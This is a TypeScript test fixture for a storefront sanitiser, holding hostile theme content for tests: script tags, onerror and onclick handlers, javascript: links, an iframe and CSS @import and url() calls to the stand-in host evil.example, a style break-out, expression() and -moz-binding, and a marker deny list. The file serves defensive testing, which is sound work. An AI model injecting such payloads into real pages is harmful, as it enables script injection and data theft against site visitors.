/**
 * HOSTILE THEME CONTENT — deliberately malicious, served by the demo store's theme.
 *
 * Theme text comes from store owners and is untrusted. The storefront must sanitise it at render
 * (spec storefront §1 "sanitised HTML", §5 "About text is sanitised; images allowed with src and alt,
 * schemes data, http and https"). These fixtures mix legitimate markup that must survive with attacks
 * that must not, so the sanitiser's tests and the e2e journeys can check both halves against the
 * real answer. Each attack is listed in HOSTILE_MARKERS: none of those strings may reach the DOM.
 *
 * Do not "fix" these strings: they are the test.
 */

/** Notification bar HTML: a bold promo and a safe link, plus script, event-handler and javascript: attacks. */
export function hostileNotificationHtml(origin: string): string {
  return [
    '<strong>Free shipping</strong> on orders over $50 — ',
    '<a href="/search?searchterm=hoodie">shop hoodies</a> ',
    '<script>window.__pwned = "notification-script"</script>',
    '<img src="x" onerror="window.__pwned=\'notification-onerror\'" alt="broken">',
    '<a href="javascript:window.__pwned=\'notification-js-link\'">claim your gift</a> ',
    `<a href="${origin}/site/" target="_blank" onclick="window.__pwned='notification-onclick'">details</a>`,
  ].join('');
}

/** About page blocks: real paragraphs, a real image, and the same attack families. */
export function hostileAboutText(origin: string): { id: string; text: string; list: string[] }[] {
  return [
    {
      id: 'story',
      text:
        '<p>We started <strong>Northwind</strong> in a garage in 2019.</p>' +
        `<p><img src="${origin}/theme/assets/inline-workshop.svg" alt="Our workshop"></p>` +
        '<p>Read our <a href="https://example.com/story">full story</a>.</p>' +
        '<script>window.__pwned = "about-script"</script>',
      list: ['Printed on demand', 'Ships worldwide'],
    },
    {
      id: 'values',
      text:
        '<p>Every design is <em>original</em>.</p>' +
        '<img src="x" onerror="window.__pwned=\'about-onerror\'" alt="x">' +
        '<a href="javascript:window.__pwned=\'about-js-link\'">our values</a>' +
        '<iframe src="https://evil.example/frame"></iframe>' +
        '<p style="position:fixed;inset:0;background:red">overlay</p>' +
        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="pixel">',
      list: ['<b>Fair</b> wages', '<img src=x onerror="window.__pwned=\'about-list\'">Low waste'],
    },
  ];
}

/** Selectors of checkout controls that customCSS must never be allowed to hide. */
export const CHECKOUT_SELECTORS = ['[data-checkout-button]', '.checkout-button', '#checkout', 'button[type=submit]'];

/** customCSS: legitimate rules plus @import, remote url(), a </style> break-out and a rule hiding checkout. */
export const HOSTILE_CUSTOM_CSS = [
  '/* legitimate */',
  '.hero-banner h1 { letter-spacing: 0.04em; }',
  '.product-tile:hover { transform: translateY(-2px); }',
  '/* attacks */',
  "@import url('http://evil.example/steal.css');",
  '.footer { background-image: url(http://evil.example/track.png?c=1); }',
  `${CHECKOUT_SELECTORS.join(', ')} { display: none !important; }`,
  '.cart-summary button { visibility: hidden; }',
  '</style><script>window.__pwned = "css-breakout"</script><style>',
  '.x { behavior: url(evil.htc); -moz-binding: url(http://evil.example/xbl.xml#x); }',
  '.y { width: expression(alert(1)); }',
].join('\n');

/** Strings (and `window.__pwned`) that must not appear in the rendered page after sanitising. */
export const HOSTILE_MARKERS = [
  '<script',
  'onerror=',
  'onclick=',
  'javascript:',
  '<iframe',
  '@import',
  'evil.example',
  '</style><script',
  'expression(',
  '-moz-binding',
  'behavior:',
] as const;

/** Legitimate fragments that must survive sanitising. */
export const LEGITIMATE_MARKERS = [
  '<strong>Free shipping</strong>',
  'href="/search?searchterm=hoodie"',
  'alt="Our workshop"',
  'href="https://example.com/story"',
  'letter-spacing: 0.04em',
] as const;

/** Navigation links with one javascript: href; the data layer's schema must drop it. */
export const HOSTILE_CUSTOM_LINKS = [
  { label: 'Support', href: '/support', openInNewWindow: false },
  { label: 'Tour dates', href: 'https://example.com/tour', openInNewWindow: true },
  { label: 'Free gift', href: 'javascript:window.__pwned="nav-link"', openInNewWindow: false },
];
